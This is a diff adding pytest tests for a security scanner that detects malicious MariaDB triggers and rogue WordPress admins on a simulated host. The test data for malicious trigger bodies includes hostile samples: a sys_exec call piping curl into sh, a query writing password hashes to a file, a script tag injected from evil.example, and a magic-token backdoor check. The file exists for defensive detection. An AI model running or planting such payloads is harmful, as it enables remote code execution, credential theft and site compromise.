@@ -1,0 +1,97 @@
+"""Database checks on the real MariaDB: the simulated host's malicious trigger and rogue admin,
+benign look-alikes, an unreachable server (incomplete, never clean), and the close guard."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from csm.clock import SystemClock
+from csm.config.scanrules import default_database_rules
+from csm.drill.build import DrillHost, build
+from csm.scan.database import judge
+from tests.conftest import dropin
+
+RULES = default_database_rules()
+
+
+@pytest.fixture
+def host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> DrillHost:
+    drill = build(tmp_path / "host", 1, SystemClock(), with_databases=True)
+    monkeypatch.setenv("CSM_CONFIG", str(drill.config_path))
+    return drill
+
+
+def test_the_malicious_trigger_and_rogue_admin_are_found(cli: Any, host: DrillHost) -> None:
+    victim = host.accounts[1].user
+    result = cli("scan", victim, "--json")
+    assert result.code == 0, result.err
+    scan = result.json()
+    assert scan["complete"] and not scan["clean"]
+    checks = {f["check"]: f for f in scan["findings"]}
+    trigger = checks["db_malicious_trigger"]
+    assert trigger["severity"] == "CRITICAL" and "wp_user_sync" in trigger["message"]
+    assert "display_name LIKE" in trigger["details"]["body"]
+    assert {"db_magic_token_user", "db_suspicious_admin_email"} <= checks.keys()
+    assert scan["recorded"]["incidents"]
+    listed = cli("incidents", "list", "--account", victim, "--json").json()["items"]
+    assert any(i["id"] in scan["recorded"]["incidents"] for i in listed)
+    objects = cli("db", "objects", victim, "--json").json()["objects"]
+    assert [(o["name"], o["verdict"]) for o in objects] == [("wp_user_sync", "malicious")]
+
+
+def test_a_clean_account_scans_clean_and_satisfies_the_guard(cli: Any, host: DrillHost) -> None:
+    account = host.accounts[2].user
+    incident = next(
+        i for i in cli("incidents", "list", "--status", "active", "--json").json()["items"]
+        if i["account"] == account
+    )  # fmt: skip
+    cli("incidents", "review", incident["id"], "--note", "checked")
+    cli("creds", "defer", account, "--reason", "rotated by the customer")
+    scan = cli("scan", account, "--json").json()
+    assert scan["clean"] and scan["complete"] and scan["schemas"]
+    done = cli("incidents", "status", incident["id"], "resolved", "--json")
+    assert done.code == 0, done.out
+
+
+def test_an_unreachable_server_is_incomplete_never_clean(cli: Any, host: DrillHost) -> None:
+    dropin(host, "50-db.yaml", "mysql:\n  port: 1\n  connect_timeout: 1\n")
+    result = cli("scan", host.accounts[0].user, "--json")
+    assert result.code == 1
+    scan = result.json()
+    assert not scan["complete"] and not scan["clean"] and scan["errors"]
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "SET NEW.post_modified = NOW()",
+        "BEGIN UPDATE wp_options SET option_value = NEW.ID WHERE option_name = 'last_order'; END",
+        "INSERT INTO audit_log VALUES (NEW.ID, 'base64 image stored')",
+    ],
+)
+def test_benign_objects_are_unexpected_not_malicious(body: str) -> None:
+    assert judge(body, RULES) == ()
+
+
+@pytest.mark.parametrize(
+    ("body", "reason"),
+    [
+        ("SELECT sys_exec('curl x | sh')", "sys_exec"),
+        ("SELECT user_pass FROM wp_users INTO OUTFILE '/tmp/h'", "password hashes"),
+        ("SET NEW.post_content = CONCAT('<script src=\"https://evil.example/x.js\">', '')",
+         "evil.example"),
+        ("IF NEW.display_name LIKE '%aB3dE5fG7h%' THEN SET @x = 1; END IF", "magic token"),
+    ],
+)  # fmt: skip
+def test_malicious_bodies_say_why(body: str, reason: str) -> None:
+    assert any(reason in why for why in judge(body, RULES))
+
+
+@given(st.text(max_size=300))
+def test_any_body_is_judged_without_error(body: str) -> None:
+    assert isinstance(judge(body, RULES), tuple)
